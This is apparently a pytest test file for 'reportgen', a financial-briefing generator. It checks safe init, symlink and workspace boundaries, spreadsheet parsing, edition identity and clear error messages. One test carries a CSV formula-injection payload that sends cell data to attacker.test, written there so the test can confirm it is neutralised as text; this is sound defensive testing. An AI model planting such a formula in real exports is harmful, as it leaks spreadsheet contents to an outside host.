"""Issue 10's classes outside mail (tests/test_deliver.py has those): no lost data, no escape from the workspace,
figures read as they show, identities that follow what the reader sees, no traceback, honest messages."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import tomllib
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from reportgen import readers
from reportgen.cli import cli
from reportgen.errors import DataError

from .conftest import FIN_HEADER, REPO, CountingFile, leftovers, write_mini
from .smtp_server import recording_smtp as smtp  # noqa: F401  (the SMTP server fixture)
from .smtp_server import smtp_env


def _invoke(runner, ws, *args, env=None):
    return runner.invoke(cli, ["-C", str(ws), *args], env=env)


# -- data loss: init --------------------------------------------------------------------------------------------
def test_init_into_a_workspace_without_config_keeps_every_file(runner, tmp_path):
    ws = write_mini(tmp_path / "w", {})
    (ws / "reportgen.toml").unlink()  # exactly what "no reportgen.toml here; run reportgen init" invites
    mine = {p: p.read_bytes() for p in ws.rglob("*") if p.is_file()}
    res = runner.invoke(cli, ["init", str(ws)])
    assert res.exit_code == 0, res.output
    assert all(p.read_bytes() == data for p, data in mine.items())  # nothing of the user's replaced
    assert (ws / "reportgen.toml").read_bytes() == (REPO / "reportgen.toml").read_bytes()  # the missing file
    kept = [ln for ln in res.stdout.splitlines() if ln.startswith("kept")]
    assert any("data/companies.toml" in ln for ln in kept) and any("data/fx.csv" in ln for ln in kept)
    assert "existing file(s) kept as they are" in res.stderr


def test_init_force_replaces_and_says_what(runner, tmp_path):
    ws = write_mini(tmp_path / "w", {})
    res = runner.invoke(cli, ["init", "--force", str(ws)])
    assert res.exit_code == 0, res.output
    replaced = [ln.split()[1] for ln in res.stdout.splitlines() if ln.startswith("replaced")]
    assert str(ws / "data" / "companies.toml") in replaced and str(ws / "reportgen.toml") in replaced
    assert (ws / "data/companies.toml").read_bytes() == (REPO / "data/companies.toml").read_bytes()


def test_init_never_writes_through_a_symlink(runner, tmp_path):
    target = tmp_path / "precious.toml"
    target.write_text("keep me", encoding="utf-8")
    ws = tmp_path / "w"
    ws.mkdir()
    (ws / "reportgen.toml").symlink_to(target)
    res = runner.invoke(cli, ["init", "--force", str(ws)])
    assert res.exit_code == 0 and target.read_text(encoding="utf-8") == "keep me"
    assert f"skipped   {ws / 'reportgen.toml'} (a symbolic link: init never writes through one" in res.stdout
    assert "--force replaces it" not in res.stdout  # it does not: --force was given and did not


@pytest.mark.parametrize("how", ["folder-link-out", "folder-link-in", "file-for-folder", "output-is-a-file"])
def test_init_never_writes_through_a_linked_folder_nor_over_what_is_in_the_way(runner, tmp_path, how):
    outside = tmp_path / "outside"
    outside.mkdir()
    ws = tmp_path / "w"
    ws.mkdir()
    place = ws / ("output" if how == "output-is-a-file" else "data")
    if how == "folder-link-out":
        place.symlink_to(outside, target_is_directory=True)
    elif how == "folder-link-in":
        (ws / "elsewhere").mkdir()
        place.symlink_to(ws / "elsewhere", target_is_directory=True)
    else:
        place.write_text("mine", encoding="utf-8")
    res = runner.invoke(cli, ["init", "--force", str(ws)])
    assert res.exit_code == 0 and "Traceback" not in res.output, res.output
    assert f"skipped   {place} (" in res.stdout and "nothing was written there" in res.stdout
    assert list(outside.iterdir()) == [] and not any((ws / "elsewhere").glob("*"))  # nothing written through a link
    if how in ("file-for-folder", "output-is-a-file"):
        assert place.read_text(encoding="utf-8") == "mine"
    assert (ws / "templates/briefing.css").is_file()  # the rest of the workspace is written


# -- the edition's identity follows what the reader receives ------------------------------------------------------
RUN_CONFIG = """
[report]
subject = "alpha"
min_peers_reported = 2
[groups.peers]
label = "Peers"
members = ["beta", "gamma"]
[mail.lists.board]
to = ["ceo@example.test", "cfo@example.test"]
"""


def _upgrade(ws):
    """A new reportgen release that renders the same briefing: a different version in the inputs hash."""
    import reportgen

    reportgen.__version__, old = "99.0.0", reportgen.__version__
    return lambda: setattr(reportgen, "__version__", old)


def _add_fx(ws):
    with open(ws / "data/fx.csv", "a", encoding="utf-8") as fh:
        fh.write("HKD,2025Q3,3M,0.91,https://example.test/fx-next\n")  # next quarter's rate: nothing shown changes


def _add_alias(ws):
    labels = ws / "data/labels.toml"
    text = labels.read_text(encoding="utf-8").replace("[labels]", '[labels]\n"Turnover" = "revenue"', 1)
    labels.write_text(text, encoding="utf-8")


def _stray_file(ws):
    (ws / "templates" / ".DS_Store").write_bytes(b"\x00\x00\x00\x01Bud1")


def _real_change(ws):
    fin = ws / "data/financials/alpha.csv"
    fin.write_text(fin.read_text(encoding="utf-8").replace(",1000,", ",1010,"), encoding="utf-8")


@pytest.mark.parametrize(
    "change,remailed",
    [
        pytest.param(_add_fx, False, marks=pytest.mark.slow),
        pytest.param(_add_alias, False, marks=pytest.mark.slow),
        pytest.param(_stray_file, False, marks=pytest.mark.slow),
        (_upgrade, False),
        (_real_change, True),
    ],
    ids=["next-quarter-fx-rate", "label-alias", "stray-template-file", "reportgen-upgrade", "a-changed-figure"],
)
def test_edition_identity_is_what_the_reader_receives(runner, tmp_path, smtp, change, remailed):  # noqa: F811
    handler, port = smtp
    ws = write_mini(tmp_path / "w", {"reportgen.toml": RUN_CONFIG})
    env = smtp_env(port)
    first = _invoke(runner, ws, "run", "--now", "2025-10-01T08:00", env=env)
    assert first.exit_code == 0, first.output
    edition = json.loads((ws / "output/2025Q2/manifest.json").read_text())["edition"]
    assert len(handler.received) == 2
    undo = change(ws)
    try:
        again = _invoke(runner, ws, "run", "--now", "2025-11-01T08:00", env=env)
    finally:
        if callable(undo):
            undo()
    assert again.exit_code == 0, again.output
    manifest = json.loads((ws / "output/2025Q2/manifest.json").read_text())
    assert (manifest["edition"] != edition) is remailed
    assert len(handler.received) == (4 if remailed else 2)  # the board gets a new edition once, the same one never


# -- files read as they show, streams stopped at the first problem ------------------------------------------------
def _xlsx(ws, rows, formats=None):
    wb = Workbook()
    for row in rows:
        wb.active.append(row)
    for (r, c), fmt in (formats or {}).items():
        wb.active.cell(r, c).number_format = fmt
    (ws / "data/financials/gamma.csv").unlink()
    wb.save(ws / "data/financials/gamma.xlsx")


HEADER = FIN_HEADER.strip().split(",")


def test_xlsx_percent_cell_is_read_as_it_shows(runner, tmp_path):
    ws = write_mini(tmp_path / "w", {})
    rows = [HEADER]
    rows += [["2025Q2", "6M", "营业收入", 7.5, "hundred_million", "RMB", "published", "https://example.test/g"]]
    rows += [["2025Q2", "6M", "销售费用率", 0.088, "percent", "RMB", "published", "https://example.test/g"]]
    _xlsx(ws, rows, {(3, 4): "0.0%"})  # Excel stores 0.088 for a cell that shows 8.8%
    res = _invoke(runner, ws, "metrics", "--quarter", "2025Q2", "--basis", "ytd", "--format", "json")
    assert res.exit_code == 0, res.output
    rec = next(r for r in json.loads(res.stdout) if r["company"] == "gamma" and r["metric"] == "selling_expense_ratio")
    assert rec["value"] == pytest.approx(0.088) and "stated_ratio" in rec["flags"]


def test_rows_from_file_reads_a_csv_and_an_xlsx_alike_and_stops_at_a_bad_row(tmp_path):
    """The reader seam (issue 11): one call from a file object to checked ReportedRows, whatever the format."""
    from reportgen import loaders

    ws = write_mini(tmp_path / "w", {})
    company = loaders.load_registry(ws)["gamma"]
    labels, overrides = loaders.load_labels(ws)
    label_map, fx = {**labels, **overrides.get("gamma", {})}, loaders.load_fx(ws)
    rows = [
        HEADER,
        ["2025Q2", "6M", "营业收入", "7.5", "hundred_million", "RMB", "published", "https://example.test/g"],
    ]
    rows += [["2025Q2", "6M", "销售费用", "0.66", "hundred_million", "RMB", "published", "https://example.test/g"]]
    text = "\n".join(",".join(r) for r in rows) + "\n"
    from_csv = list(readers.rows_from_file(io.BytesIO(text.encode()), ".csv", "g.csv", company, label_map, fx))
    wb = Workbook()
    for r in rows:
        wb.active.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    buf.seek(0)
    from_xlsx = list(readers.rows_from_file(buf, ".XLSX", "g.xlsx", company, label_map, fx))
    assert [(r.item, r.value, r.unit, r.line) for r in from_csv] == [
        ("revenue", 7.5, "hundred_million", 2),
        ("selling_expenses", 0.66, "hundred_million", 3),
    ]
    assert [(r.item, r.value, r.line) for r in from_xlsx] == [(r.item, r.value, r.line) for r in from_csv]
    bad = text.replace("0.66", '"0,66"')  # a decimal comma: an error naming file, line and field, not 66
    with pytest.raises(DataError) as e:
        list(readers.rows_from_file(io.BytesIO(bad.encode()), ".csv", "g.csv", company, label_map, fx))
    assert (e.value.path, e.value.line, e.value.field) == ("g.csv", 3, "value")
    with pytest.raises(DataError, match="cannot read '.ods' files"):
        list(readers.rows_from_file(io.BytesIO(b""), ".ods", "g.ods", company, label_map, fx))


def test_xlsx_formula_without_saved_result_is_named(runner, tmp_path):
    ws = write_mini(tmp_path / "w", {})
    _xlsx(ws, [HEADER, ["2025Q2", "6M", "营业收入", "=3+4.5", "hundred_million", "RMB", "published", "https://x"]])
    res = _invoke(runner, ws, "metrics", "--quarter", "2025Q2")
    assert res.exit_code == 1
    assert "data/financials/gamma.xlsx:2: value: cell D2 is a formula with no saved result" in res.stderr


def test_xlsx_row_longer_than_the_header_is_reported_at_its_own_row(runner, tmp_path):
    ws = write_mini(tmp_path / "w", {})
    good = ["2025Q2", "6M", "营业收入", 7.5, "hundred_million", "RMB", "published", "https://x"]
    _xlsx(ws, [HEADER, good, [*good[:2], "销售费用", 0.66, *good[4:], "stray"]])
    res = _invoke(runner, ws, "metrics", "--quarter", "2025Q2")
    assert res.exit_code == 1
    assert res.stderr.startswith("Error: data/financials/gamma.xlsx:3: 9 cells but the header names 8")


def test_xlsx_with_a_truncated_sheet_is_a_message(runner, tmp_path):
    ws = write_mini(tmp_path / "w", {})
    rows = [
        [f"{y}Q2", "6M", "营业收入", 7.5, "hundred_million", "RMB", "published", "https://x"] for y in range(1950, 2026)
    ]
    _xlsx(ws, [HEADER, *rows])
    path = ws / "data/financials/gamma.xlsx"
    src = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            dst.writestr(info, data[: len(data) // 2] if info.filename.endswith("sheet1.xml") else data)
    path.write_bytes(out.getvalue())
    res = _invoke(runner, ws, "metrics", "--quarter", "2025Q2")
    assert res.exit_code == 1 and "Traceback" not in res.output
    assert res.stderr.startswith("Error: data/financials/gamma.xlsx") and "cannot read this workbook" in res.stderr


def test_a_csv_is_read_as_a_stream_and_stops_at_its_first_problem():
    good = "2025Q2,3M,Revenue,1000,million,RMB,published,https://x\n"
    body = FIN_HEADER + good * 20 + "2025Q2,3M,Revenue,12o0,million,RMB,published,https://x\n" + good * 200_000
    fh = CountingFile(body.encode())
    with pytest.raises(DataError, match="line 22|:22:"):
        for line, rec in readers.csv_records(fh, "big.csv", columns=readers.FINANCIAL_COLUMNS):
            readers.number_problem(rec["value"])[0] or (_ for _ in ()).throw(DataError("bad", "big.csv", line))
    assert fh.taken < 10_000 < len(body)  # a few lines read, not the 11 MB


# -- the workspace is the boundary --------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "rel",
    ["templates/briefing.css", "templates/briefing.html.j2", "data/financials/beta.csv", "data/companies.toml"],
)
def test_a_symlink_out_of_the_workspace_is_never_read(runner, tmp_path, rel):
    secret = tmp_path / "secret.txt"
    secret.write_text("root:x:0:0:SECRET-LINE\n", encoding="utf-8")
    ws = write_mini(tmp_path / "w", {})
    (ws / rel).unlink()
    (ws / rel).symlink_to(secret)
    res = _invoke(runner, ws, "build", "--quarter", "2025Q2", "--date", "2026-11-24")
    assert res.exit_code == 1 and "Traceback" not in res.output
    assert f"Error: {rel}: leads outside the workspace" in res.stderr
    assert leftovers(ws / "output") == []
    assert not any("SECRET-LINE" in p.read_text(errors="replace") for p in (ws / "output").rglob("*") if p.is_file())


def test_a_symlink_inside_the_workspace_is_fine(runner, tmp_path):
    ws = write_mini(tmp_path / "w", {})
    (ws / "data/financials/beta-real.csv").write_bytes((ws / "data/financials/beta.csv").read_bytes())
    (ws / "data/financials/beta.csv").unlink()
    (ws / "data/financials/beta.csv").symlink_to(ws / "data/financials/beta-real.csv")
    (ws / "reportgen.toml").write_text(
        (ws / "reportgen.toml").read_text().replace("[groups.peers]", "[groups.peers]"), encoding="utf-8"
    )
    res = _invoke(runner, ws, "metrics", "--quarter", "2025Q2")
    assert res.exit_code == 0, res.output


def test_text_in_exports_never_becomes_a_formula(runner, tmp_path):
    evil = '=HYPERLINK("http://attacker.test/?x="&A1,"Click")'
    ws = write_mini(tmp_path / "w", {})
    reg = ws / "data/companies.toml"
    reg.write_text(reg.read_text().replace('name = "Beta"', f"name = {json.dumps(evil)}"), encoding="utf-8")
    res = _invoke(runner, ws, "build", "--quarter", "2025Q2", "--date", "2026-11-24")
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(io.StringIO((ws / "output/2025Q2/metrics.csv").read_text())))
    names = {r["name"] for r in rows if r["company"] == "beta"}
    assert names == {"'" + evil}  # OWASP: a leading ' makes a spreadsheet show it as text
    assert all(r["value"] == "" or float(r["value"]) == float(r["value"]) for r in rows)  # numbers stay numbers
    sheet = load_workbook(ws / "output/2025Q2/metrics.xlsx").active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)
    with zipfile.ZipFile(ws / "output/2025Q2/metrics.xlsx") as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()  # no formula element anywhere


def test_company_name_with_dollar_signs_builds(runner, tmp_path):
    ws = write_mini(tmp_path / "w", {})
    reg = ws / "data/companies.toml"
    reg.write_text(reg.read_text().replace('name = "Beta"', 'name = "Beta $x^2$ $Holdings"'), encoding="utf-8")
    res = _invoke(runner, ws, "build", "--quarter", "2025Q2", "--date", "2026-11-24")
    assert res.exit_code == 0, res.output
    assert "Beta $x^2$ $Holdings" in (ws / "output/2025Q2/briefing.html").read_text()


# -- no traceback ---------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("epoch", ["yesterday", "1e9", "99999999999999999999", "１７６４５４７２００"])
def test_bad_source_date_epoch_names_the_variable(runner, tmp_path, epoch):
    ws = write_mini(tmp_path / "w", {})
    res = _invoke(runner, ws, "build", "--quarter", "2025Q2", env={"SOURCE_DATE_EPOCH": epoch})
    assert res.exit_code == 1 and "Traceback" not in res.output
    assert res.stderr.startswith("Error: SOURCE_DATE_EPOCH: ")
    assert leftovers(ws / "output") == []


@pytest.mark.parametrize(
    "how",
    [
        pytest.param(("SOURCE_DATE_EPOCH", "4354819200"), marks=pytest.mark.slow),
        pytest.param(("SOURCE_DATE_EPOCH", "0"), marks=pytest.mark.slow),
        ("--date", "2200-01-01"),
    ],
)
def test_an_edition_dated_outside_a_zips_years_builds(runner, tmp_path, how):
    """A zip entry's time runs from 1980 to 2107 (the workbook is a zip): 2108 ended in a traceback."""
    ws = write_mini(tmp_path / "w", {})
    name, value = how
    args, env = (["--date", value], None) if name == "--date" else ([], {name: value})
    res = _invoke(runner, ws, "build", "--quarter", "2025Q2", *args, env=env)
    assert res.exit_code == 0, res.output
    with zipfile.ZipFile(ws / "output/2025Q2/metrics.xlsx") as z:
        assert {i.date_time[0] for i in z.infolist()} <= {1980, 2107}
    year = load_workbook(ws / "output/2025Q2/metrics.xlsx").properties.created.year
    assert year == {"4354819200": 2107, "0": 1980, "2200-01-01": 2107}[value]


@pytest.mark.parametrize("damage", ["garbage", pytest.param("foreign-schema", marks=pytest.mark.slow)])
def test_a_damaged_ledger_stops_every_command_before_it_changes_anything(runner, tmp_path, damage):
    import sqlite3

    ws = write_mini(tmp_path / "w", {"reportgen.toml": RUN_CONFIG})
    assert _invoke(runner, ws, "build", "--quarter", "2025Q2").exit_code == 0
    pdf = (ws / "output/2025Q2/briefing.pdf").read_bytes()
    ledger_path = ws / "output/.ledger.sqlite3"
    for p in ws.glob("output/.ledger.sqlite3*"):
        p.unlink()
    if damage == "garbage":
        ledger_path.write_bytes(os.urandom(4096))
    else:
        with sqlite3.connect(ledger_path) as db:
            db.execute("CREATE TABLE deliveries (id INTEGER, who TEXT)")
    _real_change(ws)
    for args in (["build", "--quarter", "2025Q2"], ["history"], ["send", "--quarter", "2025Q2", "--dry-run"],
                 ["run", "--now", "2025-10-01T08:00"]):  # fmt: skip
        res = _invoke(runner, ws, *args, env={"REPORTGEN_SMTP_HOST": "127.0.0.1", "REPORTGEN_MAIL_FROM": "a@b.test"})
        assert res.exit_code == 1 and "Traceback" not in res.output, (args, res.output)
        assert "output/.ledger.sqlite3" in res.stderr and "move it aside" in res.stderr, (args, res.stderr)
    assert (ws / "output/2025Q2/briefing.pdf").read_bytes() == pdf  # the build did not swap in a new edition


# TOML of every shape, in every file that is TOML: a message or a result, never a traceback.
KEYS = {
    "reportgen.toml": ["report", "groups", "mail", "schedule", "subject", "title", "metrics", "members", "label",
                       "peers", "lists", "board", "to", "cc", "attach", "cron", "owner", "slightly_pp"],
    "data/companies.toml": ["alpha", "beta", "gamma", "name", "name_zh", "ticker", "currency", "reporting",
                            "fiscal_year_end", "policy_changes", "effective", "items", "id"],
    "data/labels.toml": ["labels", "overrides", "beta", "Revenue", "营业收入"],
    "templates/findings.toml": ["headline_all", "clause", "peer_value", "in_line", "and", "headline"],
}  # fmt: skip


def _toml_value(draw, keys, depth=0):
    kinds = ["str", "int", "bool", "float", "list"] + (["table"] if depth < 3 else [])
    kind = draw(st.sampled_from(kinds))
    if kind == "str":
        return json.dumps(
            draw(st.sampled_from(["", "alpha", "beta", "{quarter}", "{x:>3}", "2025Q2", "revenue", "ytd"]))
        )
    if kind == "int":
        return str(draw(st.integers(-3, 100)))
    if kind == "bool":
        return draw(st.sampled_from(["true", "false"]))
    if kind == "float":
        return repr(draw(st.floats(-10, 10, allow_nan=False)))
    if kind == "list":
        return "[" + ", ".join(_toml_value(draw, keys, depth + 1) for _ in range(draw(st.integers(0, 3)))) + "]"
    items = {draw(st.sampled_from(keys)): _toml_value(draw, keys, depth + 1) for _ in range(draw(st.integers(0, 3)))}
    return "{" + ", ".join(f'"{k}" = {v}' for k, v in items.items()) + "}"


@st.composite
def toml_documents(draw):
    rel = draw(st.sampled_from(sorted(KEYS)))
    keys = KEYS[rel]
    lines = [
        f'"{k}" = {_toml_value(draw, keys)}' for k in draw(st.lists(st.sampled_from(keys), max_size=4, unique=True))
    ]
    return rel, "\n".join(lines) + "\n"


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(doc=toml_documents())
def test_toml_of_any_shape_gives_a_message_not_a_traceback(runner, tmp_path_factory, doc):
    rel, text = doc
    tomllib.loads(text)  # the document is valid TOML: only its shape is hostile
    ws = write_mini(tmp_path_factory.mktemp("toml") / "w", {rel: text})
    for args in (["validate"], ["metrics", "--quarter", "2025Q2", "--format", "json"]):
        res = runner.invoke(cli, ["-C", str(ws), *args])
        assert res.exit_code in (0, 1), (rel, text, res.output)
        assert res.exception is None or isinstance(res.exception, SystemExit), (rel, text, res.exc_info)


# -- output follows the umask; a changed edition is rebuilt ---------------------------------------------------------
@pytest.mark.parametrize("umask", [0o002, pytest.param(0o027, marks=pytest.mark.slow)])
def test_edition_folders_follow_the_umask(runner, tmp_path, umask):
    ws = write_mini(tmp_path / "w", {})
    old = os.umask(umask)
    try:
        assert _invoke(runner, ws, "build", "--quarter", "2025Q2").exit_code == 0
    finally:
        os.umask(old)
    mode = stat.S_IMODE((ws / "output/2025Q2").stat().st_mode)
    assert mode == 0o777 & ~umask
    assert stat.S_IMODE((ws / "output/2025Q2/briefing.pdf").stat().st_mode) == 0o666 & ~umask
    for state in (".ledger.sqlite3", ".editions.lock"):  # the workspace's state is shared like its editions
        assert stat.S_IMODE((ws / "output" / state).stat().st_mode) == 0o666 & ~umask, state


@pytest.mark.parametrize("name", [".ledger.sqlite3", pytest.param(".editions.lock", marks=pytest.mark.slow)])
def test_a_ledger_or_lock_that_is_a_symbolic_link_is_refused_before_anything_is_written(runner, tmp_path, name):
    """A dangling link at output/.ledger.sqlite3 made the build create the delivery history outside the workspace;
    a looping link at the lock ended in "Too many levels of symbolic links"."""
    ws = write_mini(tmp_path / "w", {})
    (ws / "output").mkdir(exist_ok=True)
    elsewhere = tmp_path / "elsewhere.db"
    (ws / "output" / name).symlink_to(elsewhere if name.startswith(".ledger") else ws / "output" / name)
    res = _invoke(runner, ws, "build", "--quarter", "2025Q2")
    assert res.exit_code != 0 and "Traceback" not in res.output, res.output
    assert f"output/{name}: is a symbolic link;" in res.stderr and "move the link aside" in res.stderr
    assert not elsewhere.exists() and not (ws / "output/2025Q2").exists()


@pytest.mark.slow
def test_run_rebuilds_an_edition_whose_files_were_changed_by_hand(runner, tmp_path, smtp):  # noqa: F811
    handler, port = smtp
    ws = write_mini(tmp_path / "w", {"reportgen.toml": RUN_CONFIG})
    assert _invoke(runner, ws, "run", "--now", "2025-10-01T08:00", env=smtp_env(port)).exit_code == 0
    pdf = ws / "output/2025Q2/briefing.pdf"
    pdf.write_bytes(pdf.read_bytes() + b"% edited by hand\n")
    res = _invoke(runner, ws, "run", "--now", "2025-11-01T08:00", env=smtp_env(port))
    assert res.exit_code == 0, res.output
    assert "briefing.pdf changed since the build; rebuilding" in res.stderr
    manifest = json.loads((ws / "output/2025Q2/manifest.json").read_text())
    import hashlib

    assert hashlib.sha256(pdf.read_bytes()).hexdigest() == manifest["files"]["briefing.pdf"]["sha256"]
    assert len(handler.received) == 2  # the same edition: nobody is mailed again


def test_validate_lists_at_most_twenty_problems_of_one_file(runner, tmp_path):
    bad = "".join(f"2025Q2,3M,Revenue,12o{i},million,RMB,published,https://x\n" for i in range(40))
    ws = write_mini(tmp_path / "w", {"data/financials/alpha.csv": FIN_HEADER + bad})
    res = _invoke(runner, ws, "validate")
    assert res.exit_code == 1
    lines = res.stderr.strip().splitlines()
    assert len(lines) == 21 and "stopped after 20 problems in this file; fix these first" in lines[-1]


@settings(max_examples=300, deadline=None)
@given(
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from(["ratio", "growth", "pp", "rmb_mn"]),
    st.sampled_from(["en", "zh-CN"]),
)
def test_every_finite_number_is_shown_without_a_traceback(value, unit, lang):
    """1e300 ended in decimal.InvalidOperation (Babel rounds in a 28-digit context); 1e-300 too, on some paths."""
    from reportgen.formats import fmt_value

    text = fmt_value(value, unit, 0.0, lang)
    # digits, never a float's repr; a ratio past 1e306 is more than a float can hold in percent: ∞
    assert (any(ch.isdigit() for ch in text) or "∞" in text) and "e" not in text.lower()


def test_a_manifest_edited_by_hand_is_never_mailed_from(runner, tmp_path, smtp):  # noqa: F811
    """send took the subject and findings from manifest.json as it found it: a hand edit went out to the board."""
    handler, port = smtp
    ws = write_mini(tmp_path / "w", {"reportgen.toml": RUN_CONFIG})
    assert _invoke(runner, ws, "build", "--quarter", "2025Q2").exit_code == 0
    path = ws / "output/2025Q2/manifest.json"
    manifest = json.loads(path.read_text(encoding="utf-8"))
    manifest["title"] = "HAND-EDITED TITLE"
    path.write_text(json.dumps(manifest, ensure_ascii=False, indent=2), encoding="utf-8")
    dry = _invoke(runner, ws, "send", "--quarter", "2025Q2", "--dry-run")
    assert dry.exit_code == 1 and "Traceback" not in dry.output
    assert "output/2025Q2/manifest.json: changed since the build" in dry.stderr
    res = _invoke(runner, ws, "send", "--quarter", "2025Q2", env=smtp_env(port))  # a real send rebuilds it first
    assert res.exit_code == 0, res.output
    assert len(handler.received) == 2
    assert all("HAND-EDITED" not in str(msg["Subject"]) for _to, msg in handler.received)
    assert "HAND-EDITED" not in (ws / "output/2025Q2/manifest.json").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "file,old,new,where",
    [
        ("reportgen.toml", 'label = "Peers"', 'label = "Pe\\u202eers"', "reportgen.toml:6: groups.peers.label"),
        (
            "reportgen.toml",
            'subject = "alpha"',
            'subject = "alpha"\ntitle = "Board\\u0007 {quarter}"',
            "reportgen.toml:4: report.title",
        ),
        ("data/labels.toml", "[labels]", '[labels]\n"Rev\\u200benue" = "revenue"', "data/labels.toml:"),
    ],
)
def test_hidden_characters_in_any_toml_file_are_refused_where_they_stand(runner, tmp_path, file, old, new, where):
    """A bell or a right-to-left override in a group label reached the briefing and the charts unseen."""
    ws = write_mini(tmp_path / "w", {"reportgen.toml": RUN_CONFIG})
    path = ws / file
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    for command in (["validate"], ["build", "--quarter", "2025Q2"]):
        res = _invoke(runner, ws, *command)
        assert res.exit_code == 1 and "Traceback" not in res.output, res.output
        assert where in res.stderr and "has a control or invisible character (\\" in res.stderr, res.stderr
    assert not (ws / "output/2025Q2").exists()


def test_a_bad_fx_file_is_one_problem_not_one_per_foreign_row(runner, tmp_path):
    """validate went on without rates, so every HKD row was also 'no HKD rate', pointing at the data files."""
    ws = write_mini(tmp_path / "w", {})
    fx = ws / "data/fx.csv"
    fx.write_text(fx.read_text(encoding="utf-8").replace(",0.90,", ",0.9o,"), encoding="utf-8")
    res = _invoke(runner, ws, "validate")
    assert res.exit_code == 1 and "data/fx.csv:" in res.stderr, res.stderr
    assert "no HKD rate" not in res.stderr and len(res.stderr.strip().splitlines()) == 1, res.stderr
